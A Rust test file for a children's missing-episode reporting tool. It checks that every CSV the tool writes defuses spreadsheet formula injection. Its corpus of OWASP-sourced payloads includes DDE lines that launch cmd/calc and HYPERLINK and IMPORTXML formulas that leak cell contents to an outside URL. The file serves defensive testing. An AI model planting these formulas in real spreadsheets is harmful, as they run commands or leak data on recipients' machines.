//! Cells that a spreadsheet would run: harmless in every CSV that is written, and unchanged in what they mean.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::format_push_string)]

use std::collections::BTreeSet;

use missing_rates::read::Reader;
use missing_rates::report::Codes;
use missing_rates::report::as_meant;
use missing_rates::{Query, Returns};

/// What people have put into cells to have it run. Source: OWASP, CSV Injection, and its kin of other alphabets.
const CORPUS: [&str; 26] = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=HYPERLINK(\"http://example.org?\"&A1,\"Click\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(CONCAT(\"http://example.org?\",A1),\"//a\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "+44 20 7946 0000",
    "-1+1",
    "-cmd|'/C calc'!A0",
    "--1",
    "-",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{A0}=1+1",
    "\u{200B}=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "a,=1+1",
    "\"=1+1\"",
];

/// Whether a spreadsheet might run it. Told apart from the product's own rule: looser, so that it finds more.
fn runs(cell: &str) -> bool {
    let seen =
        |c: &char| !(c.is_whitespace() || c.is_control() || ('\u{200B}'..='\u{200F}').contains(c) || *c == '\u{FEFF}');
    let number = cell
        .strip_prefix('-')
        .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()) && rest.parse::<f64>().is_ok());
    !number
        && (cell.starts_with(['\t', '\r', '\n']) || cell.chars().find(seen).is_some_and(|c| "=+-@＝＋－＠".contains(c)))
}

/// Every cell of a file, read as RFC 4180 has it.
fn cells(text: &str) -> Vec<String> {
    let text = text.strip_prefix('\u{FEFF}').expect("a byte order mark");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

fn quoted(cell: &str) -> String {
    format!("\"{}\"", cell.replace('"', "\"\""))
}

/// A return and answers in which all that a person could write is hostile.
fn returns() -> Returns {
    let mut returns = Returns::default();
    let mut id = 0;
    let mut add = |name: &str, text: &str| {
        let mut reader = Reader::new(name, Vec::new());
        reader.push(text.as_bytes());
        id += 1;
        returns.add(id, reader.finish());
    };
    let mut answers =
        String::from("Authority,Year,Looked-after children,Looked-after children who went missing,Notes\n");
    let names =
        ["Kent", "Surrey", "Essex", "Leeds", "Derby", "Bolton", "Bury", "Cornwall", "Devon", "Dorset", "Durham"];
    for (at, hostile) in CORPUS.iter().enumerate() {
        let name = names[at % names.len()];
        answers += &format!("{name},{},100,{},{}\n", 2010 + at, quoted(hostile), quoted(hostile));
        answers += &format!("{},2024,50,5,\n", quoted(hostile));
    }
    add("=answers.csv", &answers);
    let (mut episodes, mut missing) =
        (String::from("CHILD,DECOM,LS,PLACE,DEC\n"), String::from("CHILD,DOB,MISSING,MIS_START,MIS_END\n"));
    for hostile in CORPUS {
        let child = quoted(hostile);
        episodes += &format!("{child},01/05/2024,C2,U1,\n");
        missing +=
            &format!("{child},01/01/2010,{child},{child},01/06/2024\n{child},01/01/2010,M,05/06/2024,01/06/2024\n");
    }
    add("@episodes.csv", &episodes);
    add("-missing.csv", &missing);
    returns
}

#[test]
fn no_cell_of_any_file_is_run_and_each_means_what_it_meant() {
    let returns = returns();
    let asked = Query::default();
    let report = returns.report(&asked);
    let request = report.foi.as_ref().unwrap().to_csv(None, &missing_rates::report::Codes);
    let list = returns.work_list(&asked, &Codes);
    let [tidy, chase, work, request, based_on, commented] = [
        report.to_csv(),
        report.to_chase_csv(&Codes),
        list.clone(),
        request,
        report.based_on_csv(&Codes),
        report.commented(&list, &Codes),
    ]
    .map(|text| cells(&text));
    for cell in [&tidy, &chase, &work, &request, &based_on, &commented].into_iter().flatten() {
        assert!(!runs(cell), "{cell:?}");
    }
    let meant = |cells: &[String]| cells.iter().map(|cell| as_meant(cell).to_owned()).collect::<BTreeSet<_>>();
    // As typed, but for the blanks around it, which the reading of answers takes away.
    let (chase, work) = (meant(&chase), meant(&work));
    let asked_again = CORPUS.iter().filter(|hostile| chase.contains(hostile.trim())).count();
    assert!(asked_again >= 20, "{asked_again}: {chase:?}");
    let listed = CORPUS.iter().filter(|hostile| work.contains(hostile.trim())).count();
    // Two that differ in an apostrophe or in spaces alone are one child.
    assert!(listed >= 18, "{listed}");
    for file in ["=answers.csv: SHA-256", "@episodes.csv: SHA-256"] {
        assert!(meant(&based_on).iter().any(|cell| cell.starts_with(file)), "{file}");
        assert!(commented.iter().any(|cell| cell.starts_with(&["# file: ", file].concat())), "{file}");
        assert!(!meant(&tidy).iter().chain(&work).any(|cell| cell.starts_with(file)), "{file}: tables only");
    }
    assert!(commented.ends_with(&cells(&list)), "the table is as it is without comments");
}

#[test]
fn numbers_below_zero_stay_numbers() {
    let report = crate::support::report(&[("published.csv", crate::support::sample("published-2024.csv"))]);
    let cells = cells(&report.to_csv());
    let below = cells.iter().filter(|cell| cell.parse::<f64>().is_ok_and(|number| number < 0.0)).count();
    assert!(below > 100, "{below}");
    assert!(cells.iter().all(|cell| !cell.starts_with("'-")));
}

#[test]
fn the_corpus_would_be_run_as_it_is() {
    // Three of them only where a cell is split or unquoted once more.
    assert_eq!(CORPUS.iter().filter(|cell| !runs(cell)).count(), 3);
}
